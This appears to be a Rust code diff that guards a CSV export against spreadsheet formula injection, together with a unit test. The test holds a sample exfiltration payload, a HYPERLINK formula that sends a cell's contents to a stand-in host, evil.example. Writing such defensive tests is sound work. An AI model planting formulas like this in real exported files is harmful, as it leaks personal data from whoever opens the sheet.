@@ -148,10 +148,11 @@ fn deliver(table: &Table, format: ExportFormat) -> Result<Response, Refusal> {
 pub fn csv(table: &Table) -> Vec<u8> {
     let mut out = String::from("\u{FEFF}");
     let field = |s: &str| {
+        let s = inert(s);
         if s.contains([',', '"', '\n', '\r']) {
             format!("\"{}\"", s.replace('"', "\"\""))
         } else {
-            s.to_owned()
+            s.into_owned()
         }
     };
     let line = |cells: Vec<String>| cells.join(",") + "\r\n";
@@ -167,6 +168,20 @@ pub fn csv(table: &Table) -> Vec<u8> {
         ));
     }
     out.into_bytes()
+}
+
+/// Text a spreadsheet will not take for a formula. Names, reasons and unit
+/// names are typed by admins of every unit; a cell beginning `=`, `+`,
+/// `-`, `@`, a tab or a carriage return would be run by Excel or WPS when
+/// the city's admin opens the file (a `HYPERLINK` can send the sheet's ID
+/// numbers away), so such a cell starts with an apostrophe, which the
+/// spreadsheet shows as text and does not display.
+fn inert(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
 }
 
 pub fn xlsx(table: &Table) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
@@ -547,6 +562,30 @@ mod tests {
         assert_eq!(lines[0], "序号,姓名,备注");
         assert_eq!(lines[1], "1,张三,\"有,逗号\"");
         assert_eq!(lines[2], "2,\"李\"\"四\"\"\",1.5");
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
+        let table = Table {
+            name: "roster".into(),
+            headers: vec!["姓名", "单位"],
+            rows: vec![
+                vec![
+                    Cell::Text("=HYPERLINK(\"http://evil.example/?\"&C2,\"x\")".into()),
+                    Cell::Text("+1".into()),
+                ],
+                vec![Cell::Text("@SUM(A1)".into()), Cell::Text("张三".into())],
+                vec![Cell::Text("-2+3".into()), Cell::Number(-1.5)],
+            ],
+        };
+        let text = String::from_utf8(csv(&table)).unwrap();
+        let lines: Vec<&str> = text.trim_start_matches('\u{FEFF}').split("\r\n").collect();
+        assert_eq!(
+            lines[1],
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&C2,\"\"x\"\")\",'+1"
+        );
+        assert_eq!(lines[2], "'@SUM(A1),张三");
+        assert_eq!(lines[3], "'-2+3,-1.5", "numbers stay numbers");
     }
 
     #[test]
